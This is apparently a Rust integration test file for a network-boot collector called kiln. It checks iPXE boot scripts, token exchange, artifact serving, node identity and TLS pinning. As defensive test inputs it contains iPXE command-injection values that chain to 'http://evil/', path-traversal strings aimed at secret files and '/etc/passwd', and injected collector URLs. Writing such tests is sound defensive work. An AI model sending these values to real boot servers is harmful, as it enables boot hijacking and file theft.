//! Network boot: every boot script against its golden copy, hostile values, artifacts.

use std::path::Path;

use kiln_collector::config::Config;
use kiln_protocol::wire::{EventBatch, RegisterRequest};
use serde_json::Value;

use crate::common::*;

/// Compares a rendered script with its golden copy (KILN_BLESS=1 rewrites it).
fn golden(name: &str, text: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name);
    if std::env::var_os("KILN_BLESS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&path)
        .unwrap_or_else(|_| panic!("{} missing; run with KILN_BLESS=1", path.display()));
    assert_eq!(text, want, "{name} differs from its golden copy");
}

/// Blanks the per-boot token so a script can be compared.
fn untoken(script: &str) -> String {
    let mut out = String::new();
    for word in script.split_inclusive(' ') {
        match word.strip_prefix("kiln.token=") {
            Some(rest) => out.push_str(&format!("kiln.token=TOKEN{}", &rest[64.min(rest.len())..])),
            None => out.push_str(word),
        }
    }
    out
}

#[test]
fn every_boot_script_matches_its_golden_copy_and_hostile_values_never_reach_one() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    // The node's console is configured (nothing listens there; the capture just waits).
    let access: Vec<kiln_collector::config::NodeAccess> =
        serde_yaml::from_str("- mac: \"52:54:00:00:00:01\"\n  console: {tcp: \"127.0.0.1:9\"}\n")
            .unwrap();
    let config = Config {
        default_suite: "plain".into(),
        after_verify: kiln_collector::config::AfterVerify::Poweroff,
        nodes: access,
        ..Config::default()
    };
    let server = rt.block_on(Server::start("ipxe", config));
    std::fs::write(server.data.join("suites/plain.yaml"), SUITE).unwrap();
    std::fs::write(
        server.data.join("suites/with-memtest.yaml"),
        "suite: m\ndescription: d\nmemtest: {passes: 2, report_mode: summary}\nsteps:\n  - name: tool\n    exec: {argv: [true]}\n",
    )
    .unwrap();
    let base = server.base.clone();
    let q = "mac=52-54-00-00-00-01&uuid=6f1a0c4e-0000-4000-8000-000000000001&serial=SN-1&manufacturer=QEMU&product=Standard%20PC&platform=pcbios&buildarch=i386";

    let (status, boot) = raw_get(&base, "/boot.ipxe", "");
    assert!(status.contains("200"), "{status}");
    golden("boot.ipxe", &boot);
    let (_, linux) = raw_get(&base, &format!("/ipxe?{q}"), "");
    golden("linux.ipxe", &untoken(&linux));
    // The agent exchanges the boot's one-time token for its session token, then starts.
    let bootstrap = linux.split("kiln.token=").nth(1).unwrap()[..64].to_owned();
    let client = reqwest::Client::new();
    let exchange = |token: &str| {
        rt.block_on(
            client
                .post(format!("{base}/api/v1/runs/1/session"))
                .bearer_auth(token)
                .send(),
        )
        .unwrap()
    };
    // The bootstrap token is not a session token.
    let r = rt
        .block_on(
            client
                .get(format!("{base}/api/v1/runs/1/plan"))
                .bearer_auth(&bootstrap)
                .send(),
        )
        .unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(exchange("0".repeat(64).as_str()).status(), 403);
    let r = exchange(&bootstrap);
    assert_eq!(r.status(), 201);
    let session: kiln_protocol::wire::SessionResponse = rt.block_on(r.json()).unwrap();
    let token = session.token;
    assert_ne!(token, bootstrap);
    let batch = EventBatch {
        events: full_run().into_iter().take(1).collect(),
    };
    let post = |token: &str| {
        rt.block_on(
            client
                .post(format!("{base}/api/v1/runs/1/events"))
                .bearer_auth(token)
                .json(&batch)
                .send(),
        )
        .unwrap()
    };
    assert_eq!(post(&token).status(), 200);
    // Asking again within the Linux stage never issues a second token: the node rebooted (or
    // its image did not boot), which fails the run, and its token is dead from then on.
    let (_, done) = raw_get(&base, &format!("/ipxe?{q}"), "");
    assert!(!done.contains("kiln.token="), "{done}");
    golden("done-after-reboot.ipxe", &done);
    let detail = rt.block_on(server.ops.run(1));
    assert_eq!(detail["verdict"], "fail");
    assert!(
        detail["faults"].to_string().contains("unexpected reboot"),
        "{detail}"
    );
    let r = post(&token);
    assert_eq!(r.status(), 409);
    assert!(
        rt.block_on(r.text())
            .unwrap()
            .contains("run 1 is finished (verdict fail)")
    );

    let admin = server.admin_token();
    let set = |body: Value, path: &str| {
        let r = rt
            .block_on(server.ops.post(path).bearer_auth(&admin).json(&body).send())
            .unwrap();
        assert_eq!(r.status(), 200);
    };
    set(
        serde_json::json!({ "select": { "node": 1 }, "mode": "hold" }),
        "/api/v1/nodes/mode",
    );
    golden("hold.ipxe", &raw_get(&base, &format!("/ipxe?{q}"), "").1);
    set(
        serde_json::json!({ "select": { "node": 1 }, "mode": "local" }),
        "/api/v1/nodes/mode",
    );
    golden("local.ipxe", &raw_get(&base, &format!("/ipxe?{q}"), "").1);
    set(
        serde_json::json!({ "select": { "node": 1 }, "suite": "with-memtest" }),
        "/api/v1/nodes/suite",
    );
    set(
        serde_json::json!({ "select": { "node": 1 }, "mode": "verify" }),
        "/api/v1/nodes/mode",
    );
    let (_, memtest) = raw_get(&base, &format!("/ipxe?{q}"), "");
    golden("memtest.ipxe", &memtest);
    // Rebooting while memtest86+ runs is a fail, never a pass.
    let (_, after) = raw_get(&base, &format!("/ipxe?{q}"), "");
    assert!(after.contains("verification fail"), "{after}");

    // Hostile values: a serial that would start a new command, a product with `${…}` and
    // `&&`, a MAC that is not one. None of it may appear in a script.
    let hostile = "mac=52-54-00-00-00-09&serial=x%0Achain%20http://evil/&product=%24%7Bnet0/mac%7D%20%26%26%20chain%20http://evil/&manufacturer=a||reboot";
    let (status, script) = raw_get(&base, &format!("/ipxe?{hostile}"), "");
    assert!(status.contains("200"), "{status}");
    assert!(
        !script.contains("evil") && !script.contains("reboot") && !script.contains("${net0"),
        "{script}"
    );
    assert!(script.contains("(no serial)"), "{script}");
    let (status, _) = raw_get(&base, "/ipxe?mac=not-a-mac", "");
    assert!(status.contains("400"), "{status}");
    // A Host header that is not a host name never reaches a script: 400, naming the way out.
    let (status, body) = raw_get(&base, "/boot.ipxe", "Host: evil.example/x\r\n");
    assert!(status.contains("400"), "{status}");
    assert!(
        body.contains("evil.example/x") && body.contains("public_url"),
        "{body}"
    );
    // A real one is what the script points the node back at.
    let (status, body) = raw_get(&base, "/boot.ipxe", "Host: 10.0.2.100:8080\r\n");
    assert!(status.contains("200"), "{status}");
    assert!(body.contains("http://10.0.2.100:8080/"), "{body}");
}

#[test]
fn artifacts_are_served_with_ranges_and_etags_and_nothing_outside() {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let server = rt.block_on(Server::start("artifacts", Config::default()));
    let content: Vec<u8> = (0..100_000u32).map(|i| (i % 251) as u8).collect();
    std::fs::write(server.data.join("artifacts/vmlinuz"), &content).unwrap();
    std::fs::write(server.data.join("secret.txt"), b"secret").unwrap();
    std::os::unix::fs::symlink(
        server.data.join("secret.txt"),
        server.data.join("artifacts/link"),
    )
    .unwrap();
    let client = reqwest::Client::new();
    let base = server.base.clone();
    let (full, etag) = rt.block_on(async {
        let r = client
            .get(format!("{base}/artifacts/vmlinuz"))
            .send()
            .await
            .unwrap();
        let etag = r.headers()["etag"].to_str().unwrap().to_owned();
        (r.bytes().await.unwrap(), etag)
    });
    assert_eq!(&full[..], &content[..]);
    let sha = kiln_collector::store::queries::sha256_hex(&content);
    assert_eq!(etag, format!("\"{sha}\""));
    let (status, range, part) = rt.block_on(async {
        let r = client
            .get(format!("{base}/artifacts/vmlinuz"))
            .header("range", "bytes=1000-1999")
            .send()
            .await
            .unwrap();
        (
            r.status(),
            r.headers()["content-range"].to_str().unwrap().to_owned(),
            r.bytes().await.unwrap(),
        )
    });
    assert_eq!(status, 206);
    assert_eq!(range, "bytes 1000-1999/100000");
    assert_eq!(&part[..], &content[1000..2000]);
    let status = rt
        .block_on(
            client
                .get(format!("{base}/artifacts/vmlinuz"))
                .header("range", "bytes=200000-")
                .send(),
        )
        .unwrap()
        .status();
    assert_eq!(status, 416);
    let head = rt
        .block_on(client.head(format!("{base}/artifacts/vmlinuz")).send())
        .unwrap();
    assert_eq!(head.headers()["content-length"], "100000");
    let cached = rt
        .block_on(
            client
                .get(format!("{base}/artifacts/vmlinuz"))
                .header("if-none-match", &etag)
                .send(),
        )
        .unwrap();
    assert_eq!(cached.status(), 304);
    let listing: Value = rt.block_on(async {
        client
            .get(format!("{base}/artifacts/"))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap()
    });
    assert_eq!(listing[0]["name"], "vmlinuz");
    assert_eq!(listing[0]["sha256"], sha.as_str());
    for path in [
        "/artifacts/../secret.txt",
        "/artifacts/%2e%2e/secret.txt",
        "/artifacts/%2E%2E%2Fsecret.txt",
        "/artifacts//etc/passwd",
        "/artifacts/link",
        "/artifacts/..%2fkiln.sqlite",
    ] {
        let (status, body) = raw_get(&base, path, "");
        assert!(
            !body.contains("secret") || status.contains("404"),
            "{path}: {status}"
        );
        assert!(
            status.contains("404") || status.contains("400"),
            "{path}: {status}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn ipxe_never_adds_identifiers_to_a_known_node_nor_lets_placeholders_name_one() {
    let server = Server::start("ipxe-identity", Config::default()).await;
    let client = reqwest::Client::new();
    let base = &server.base;
    let nodes = || async {
        let rows: Vec<Value> = server.ops.json("/api/v1/nodes").await;
        rows
    };
    let uuid = "6f1a0c4e-0000-4000-8000-0000000000aa";
    get_text(
        &client,
        &format!("{base}/ipxe?mac=52-54-00-00-00-01&uuid={uuid}&serial=SN-A"),
    )
    .await;
    // The same board's UUID with a new MAC and serial: it is node 1, and nothing is added.
    get_text(
        &client,
        &format!("{base}/ipxe?mac=52-54-00-00-00-99&uuid={uuid}&serial=SN-Z"),
    )
    .await;
    let rows = nodes().await;
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0]["macs"], "52:54:00:00:00:01");
    assert_eq!(rows[0]["serial"], "SN-A");
    // A second machine; then a request whose MAC is node 2's and UUID node 1's: refused.
    get_text(
        &client,
        &format!("{base}/ipxe?mac=52-54-00-00-00-02&serial=SN-B"),
    )
    .await;
    let r = client
        .get(format!("{base}/ipxe?mac=52-54-00-00-00-02&uuid={uuid}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 409);
    let why = r.text().await.unwrap();
    assert!(why.contains("name different nodes (1, 2)"), "{why}");
    // Two boards sharing AMI's placeholder UUID and an O.E.M. serial stay two nodes, and the
    // placeholders are kept for neither.
    for mac in ["52-54-00-00-00-0a", "52-54-00-00-00-0b"] {
        get_text(
            &client,
            &format!("{base}/ipxe?mac={mac}&uuid=03000200-0400-0500-0006-000700080009&serial=To%20be%20filled%20by%20O.E.M."),
        )
        .await;
    }
    let rows = nodes().await;
    let placeholders: Vec<&Value> = rows
        .iter()
        .filter(|r| r["macs"] == "52:54:00:00:00:0a" || r["macs"] == "52:54:00:00:00:0b")
        .collect();
    assert_eq!(placeholders.len(), 2, "{rows:?}");
    assert!(
        placeholders
            .iter()
            .all(|r| r["uuid"].is_null() && r["serial"].is_null()),
        "{placeholders:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_management_listener_speaks_tls_with_its_pinned_certificate_and_the_cli_pins_it() {
    let server = Server::start("management-tls", Config::default()).await;
    // Pinned to this collector's certificate: reports are served.
    let (status, body) = server.ops_get("/api/v1/report").await;
    assert_eq!(status, 200, "{body}");
    // Plain HTTP on the management port gets no answer; a client pinned to another
    // certificate refuses the handshake.
    assert!(
        reqwest::Client::new()
            .get(format!(
                "{}/healthz",
                server.ops.url.replace("https", "http")
            ))
            .send()
            .await
            .is_err()
    );
    let seen = kiln_collector::tls::Seen::default();
    let request = reqwest::Client::new()
        .get(format!("{}/healthz", server.ops.url))
        .build()
        .unwrap();
    let other = kiln_collector::tls::send_pinned(
        request,
        Some(format!("sha256:{}", "0".repeat(64))),
        &seen,
        std::time::Duration::from_secs(10),
    )
    .await;
    assert!(other.is_err());
    assert_eq!(
        seen.lock().unwrap().as_deref(),
        Some(server.ops.fingerprint.as_str())
    );
    // The command line: on first use it pins what it is shown, after that it refuses another
    // certificate, saying which and where the pin is kept.
    let known = server.data.join("known_collectors");
    let kiln = |fingerprint: Option<&str>| {
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_kiln"));
        cmd.args(["report", "--server", &server.ops.url])
            .env("KILN_KNOWN_COLLECTORS", &known)
            .env_remove("KILN_FINGERPRINT");
        if let Some(f) = fingerprint {
            cmd.args(["--fingerprint", f]);
        }
        cmd
    };
    let first = tokio::task::block_in_place(|| kiln(None).output().unwrap());
    assert_eq!(
        first.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    assert!(String::from_utf8_lossy(&first.stderr).contains("pinned the collector"));
    let kept = std::fs::read_to_string(&known).unwrap();
    assert!(kept.contains(&server.ops.fingerprint), "{kept}");
    let again = tokio::task::block_in_place(|| kiln(None).output().unwrap());
    assert_eq!(again.status.code(), Some(0));
    assert!(!String::from_utf8_lossy(&again.stderr).contains("pinned"));
    // The certificate changed (here: the pin did): refused, naming both and the file.
    let host = server.ops.url.trim_start_matches("https://").to_owned();
    std::fs::write(&known, format!("{host} sha256:{}\n", "ab".repeat(32))).unwrap();
    let changed = tokio::task::block_in_place(|| kiln(None).output().unwrap());
    assert_ne!(changed.status.code(), Some(0));
    let said = String::from_utf8_lossy(&changed.stderr);
    assert!(
        said.contains(&format!("shows the certificate {}", server.ops.fingerprint))
            && said.contains("known_collectors"),
        "{said}"
    );
}

/// Every operator route and page, as (method, path): each answers on the management listener
/// (a handler's answer, even a refusal, never the router's bare 404).
const OPERATOR_ROUTES: &[(&str, &str)] = &[
    ("GET", "/"),
    ("GET", "/login"),
    ("GET", "/logout"),
    ("GET", "/metrics"),
    ("GET", "/nodes/1"),
    ("GET", "/nodes/1/evidence.zip"),
    ("GET", "/runs/1"),
    ("GET", "/batches/B"),
    ("GET", "/api/v1/nodes"),
    ("POST", "/api/v1/nodes/import"),
    ("POST", "/api/v1/nodes/mode"),
    ("POST", "/api/v1/nodes/suite"),
    ("POST", "/api/v1/nodes/batch"),
    ("POST", "/api/v1/nodes/verify"),
    ("POST", "/api/v1/nodes/destructive"),
    ("GET", "/api/v1/batches/B"),
    ("GET", "/api/v1/batches/B/workbook.xlsx"),
    ("GET", "/api/v1/waivers"),
    ("POST", "/api/v1/waivers"),
    ("POST", "/api/v1/waivers/1/revoke"),
    ("GET", "/api/v1/cabling"),
    ("POST", "/api/v1/cabling"),
    ("GET", "/api/v1/report"),
    ("GET", "/api/v1/runs/1"),
    ("GET", "/api/v1/runs/1/junit.xml"),
    ("GET", "/api/v1/runs/1/logs"),
];

#[tokio::test(flavor = "multi_thread")]
async fn the_boot_network_reaches_no_operator_route_and_never_carries_the_admin_token() {
    let server = Server::start("boot-listener-alone", Config::default()).await;
    let admin = server.admin_token();
    let client = reqwest::Client::new();
    for (method, path) in OPERATOR_ROUTES {
        let method: reqwest::Method = method.parse().unwrap();
        // With the admin token even: the route is not there.
        let r = client
            .request(method.clone(), format!("{}{path}", server.base))
            .bearer_auth(&admin)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 404, "{method} {path} on the boot listener");
        assert_eq!(r.text().await.unwrap(), "", "{method} {path}");
        let there = server
            .ops
            .request(method.clone(), path)
            .bearer_auth(&admin)
            .send()
            .await
            .unwrap();
        assert!(
            there.status() != 404 || !there.answer.body.is_empty(),
            "{method} {path} is not a route of the management listener either"
        );
    }
    // A registration with a token is refused on the boot network (the token would have
    // crossed it; the refusal says where to go); an agent's own registration is taken.
    let req = RegisterRequest {
        identity: identity(1),
        hostname: None,
        suite_text: SUITE.into(),
    };
    let url = format!("{}/api/v1/register", server.base);
    let r = client
        .post(&url)
        .bearer_auth(&admin)
        .json(&req)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    assert!(
        r.text().await.unwrap().contains("management listener only"),
        "the refusal names where an operator registers"
    );
    register_with(&client, &server.base, &req).await;
    register_admin(
        &server.ops,
        &RegisterRequest {
            identity: identity(2),
            ..req.clone()
        },
        &admin,
    )
    .await;

    // With `registration: admin`, the boot network registers nothing at all.
    let closed = Server::start(
        "boot-listener-closed",
        Config {
            registration: kiln_collector::config::Registration::Admin,
            ..Config::default()
        },
    )
    .await;
    let r = client
        .post(format!("{}/api/v1/register", closed.base))
        .json(&req)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap().contains("registration: admin"));
    register_admin(&closed.ops, &req, &closed.admin_token()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_linux_stage_names_every_live_collector_this_one_first_and_no_hostile_url() {
    let config = Config {
        default_suite: "armed".into(),
        ..Config::default()
    };
    let server = Server::start("ipxe-collectors", config).await;
    std::fs::write(server.data.join("suites/armed.yaml"), SUITE).unwrap();
    // Other collectors sharing the database, as their heartbeats left them: one live, one
    // gone, one live whose URL would be read by iPXE as a setting, one with a space.
    let now = kiln_collector::store::now_ms();
    let old = now - 10 * kiln_collector::store::leases::TTL_MS;
    let others = format!(
        "INSERT INTO collectors (id, url, started_ms, heartbeat_ms) VALUES
           ('b:8080', 'http://10.0.0.2:8080', 0, {now}),
           ('c:8080', 'http://10.0.0.3:8080', 0, {old}),
           ('d:8080', 'http://10.0.0.4/${{evil}}', 0, {now}),
           ('e:8080', 'http://10.0.0.5 initrd=x', 0, {now});"
    );
    server.with_sql(|db| db.execute_batch(&others).unwrap());
    let script = get_text(
        &reqwest::Client::new(),
        &format!("{}/ipxe?mac=52-54-00-00-00-01", server.base),
    )
    .await;
    let url = script
        .split("kiln.url=")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .unwrap_or_else(|| panic!("no kiln.url= in {script}"));
    assert_eq!(
        url,
        format!("{},http://10.0.0.2:8080", server.base),
        "{script}"
    );
    assert!(
        !script.contains("evil") && !script.contains("10.0.0.5"),
        "{script}"
    );
    // What the agent reads back: two collectors, this one first.
    let urls = kiln_protocol::cmdline::urls(url).unwrap();
    assert_eq!(urls, [server.base.clone(), "http://10.0.0.2:8080".into()]);
}
